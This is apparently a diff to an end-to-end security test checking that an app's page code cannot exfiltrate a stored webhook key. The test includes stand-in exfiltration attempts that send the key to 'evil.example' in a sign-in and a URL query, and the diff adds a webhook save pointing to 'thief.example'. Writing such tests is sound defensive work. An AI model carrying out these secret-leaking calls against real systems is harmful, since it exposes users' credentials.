@@ -202,7 +202,7 @@ test('calls are answered for the app’s own page alone, and a system dialog ask
 
   await test.step('code of the page gets no secret out, whatever it answers itself', async () => {
     const key = 'k3y'.repeat(21).concat('0');
-    const webhook = { url: 'https://hooks.example/', isOn: true, key };
+    const webhook = { url: 'http://127.0.0.1:9/', isOn: true, key };
     expect(await call(page, 'webhook.save', webhook)).toMatchObject({ ok: true });
     await page.evaluate(() => Object.assign(window, { confirm: () => true, prompt: () => 'yes' }));
     const evil = { serviceAddress: 'https://evil.example', email: 'mara@shop.example', password: key };
@@ -211,20 +211,22 @@ test('calls are answered for the app’s own page alone, and a system dialog ask
       await call(page, 'webhook.copySavedKey'),
       await call(page, 'session.signIn', evil),
       await call(page, 'browser.open', { url: `https://evil.example/?${key}` }),
+      await call(page, 'webhook.save', { url: 'https://thief.example/', isOn: true, key: null }),
     ]) {
       expect(answer).toMatchObject({ ok: false });
       expect(JSON.stringify(answer)).not.toContain(key);
     }
     expect(await app.clipboardText()).not.toContain(key);
     const asked = (await app.outside()).filter(({ kind }) => kind === 'dialog').map(({ what }) => what);
-    expect(asked).toHaveLength(3);
+    expect(asked).toHaveLength(4);
     // It names where the password would go.
     expect(asked[2]).toContain('evil.example');
+    expect(asked[3]).toContain('thief.example');
 
     await goTo(page, 'Webhook');
     const field = page.getByLabel('Verification key', { exact: true });
     await page.getByRole('button', { name: 'Show key' }).click();
-    await expect.poll(async () => (await app.outside()).filter(({ kind }) => kind === 'dialog')).toHaveLength(4);
+    await expect.poll(async () => (await app.outside()).filter(({ kind }) => kind === 'dialog')).toHaveLength(5);
     await expect(page.getByText(/^Cancelled/)).toBeVisible();
     await expect(field).toHaveValue('');
     await app.answerDialogs({ message: 0 });
